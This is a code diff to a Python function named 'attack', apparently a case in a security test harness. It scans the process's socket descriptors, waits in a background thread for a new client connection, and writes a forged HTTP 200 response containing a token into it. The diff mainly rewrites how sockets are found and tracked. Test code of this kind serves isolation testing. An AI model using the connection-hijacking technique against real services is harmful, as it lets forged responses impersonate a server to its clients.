@@ -10,43 +10,30 @@ if TYPE_CHECKING:
 
 def attack(given: Given) -> object:
     import os
-    import socket
     import threading
     import time
 
-    word = given.token.encode()
-    answer = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 16\r\n\r\n" + word
+    answer = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 16\r\n\r\n"
+    answer += given.token.encode()
 
-    def own() -> set[tuple[int, int]]:
-        found = set()
-        for number in range(3, 32):
-            try:
-                connection = socket.socket(fileno=os.dup(number))
-            except OSError:
-                continue
-            try:
-                if connection.family == socket.AF_INET:
-                    found.add((number, connection.getpeername()[1]))
-            except OSError:
-                continue
-            finally:
-                connection.close()
-        return found
+    def connections() -> dict[int, int]:
+        # A socket's inode tells it from the next one of the same number.
+        return {os.fstat(number).st_ino: number for number in given.sockets(listening=False)}
 
-    before = own()
-    if not before:
-        raise PermissionError("none of its descriptors is a client's connection")
+    before = connections()
 
     def wait() -> None:
         deadline = time.monotonic() + 2
         while time.monotonic() < deadline:
-            for number, _ in own() - before:
-                try:
-                    os.write(number, answer)
-                except OSError:
-                    continue
-                return
-            time.sleep(0.0005)
+            try:
+                now = connections()
+                new = [number for inode, number in now.items() if inode not in before]
+                if new:
+                    os.write(new[0], answer)
+                    return
+            except OSError:  # there is no connection at all
+                pass
+            time.sleep(0.001)
 
     threading.Thread(target=wait, daemon=True).start()
     return "waiting"
